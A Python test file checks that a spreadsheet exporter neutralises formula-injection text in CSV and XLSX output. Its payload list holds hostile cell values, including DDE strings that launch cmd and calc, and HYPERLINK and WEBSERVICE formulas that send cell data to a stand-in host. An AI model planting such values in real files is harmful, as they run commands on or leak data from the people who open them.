"""Files of figures: what somebody once wrote into a title stays a text, whatever program opens the file."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from shared.documents.sheet_files import FORMULA_STARTS, Sheet, as_csv, as_xlsx, is_like_a_formula

PAYLOADS = (
    "=1+1", "=cmd|'/c calc'!A1", '=HYPERLINK("http://x.example?"&A1,"点这里")', "=IMPORTXML(A1)",
    "=DDE(\"cmd\",\"/c\",\"x\")", "+1+1", "+cmd|' /C notepad'!'A1'", "-1+1", "-2+3+cmd|' /C calc'!D2",
    "@SUM(1,1)", "@A1", "\t=1+1", "\r=1+1",
    "\n=1+1", " =1+1", "  =1+1", "\u3000=1+1", "\xa0=1+1", "\0=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
    "\t＝1+1", "=A1&\"\n\"",
    '"=1+1', "'=1+1", "=1+1,=2+2", "x\n=1+1", "=1;=2", "=\u202e1+1", "==1", "=-1", "+-1", "@-1", "-@1",
    "=SUM(A1:A9)*cmd|' /C calc'!A0", "=WEBSERVICE(\"http://x.example\")", "-", "=",
)  # fmt: skip


def a_sheet(text: str) -> Sheet:
    return Sheet(text, [["提示", text], [text, "x"]], [text, "件数"], [[text, 3], ["青禾镇", -10.5], ["—", None]])


def fields_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_there_are_forty_ways_to_try_it() -> None:
    assert len(set(PAYLOADS)) == 40


@pytest.mark.parametrize("text", PAYLOADS)
def test_no_field_of_a_csv_file_begins_like_a_formula(text: str) -> None:
    lines = fields_of(as_csv(a_sheet(text)))
    for field in (one for line in lines for one in line if one != "-10.5"):
        assert field[:1] not in FORMULA_STARTS and field.lstrip()[:1] not in FORMULA_STARTS, field
    assert lines[0][0].removeprefix("'") == text.replace("\0", "").removeprefix("'")


@pytest.mark.parametrize("text", PAYLOADS)
def test_every_text_of_a_workbook_is_a_text(text: str) -> None:
    page = openpyxl.load_workbook(io.BytesIO(as_xlsx(a_sheet(text)))).active
    cells = [cell for row in page.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
    assert all(cell.quotePrefix for cell in cells if isinstance(cell.value, str) and is_like_a_formula(cell.value))
    plain = str.maketrans({"\0": None, "\r": "\n"})
    assert str(page["A1"].value).translate(plain).strip() == text.translate(plain).strip()


def test_numbers_stay_numbers_also_below_nought() -> None:
    lines = fields_of(as_csv(a_sheet("x")))
    assert ["青禾镇", "-10.5"] in lines and ["—", ""] in lines
    page = openpyxl.load_workbook(io.BytesIO(as_xlsx(a_sheet("x")))).active
    assert [cell.value for cell in list(page.iter_rows())[6]] == ["青禾镇", -10.5]


def test_the_words_of_a_plain_text_are_not_touched() -> None:
    lines = fields_of(as_csv(Sheet("信访统计表", [["期间", "2026年"]], ["单位"], [["青禾镇"]])))
    assert lines == [["信访统计表"], ["期间", "2026年"], [], ["单位"], ["青禾镇"]]
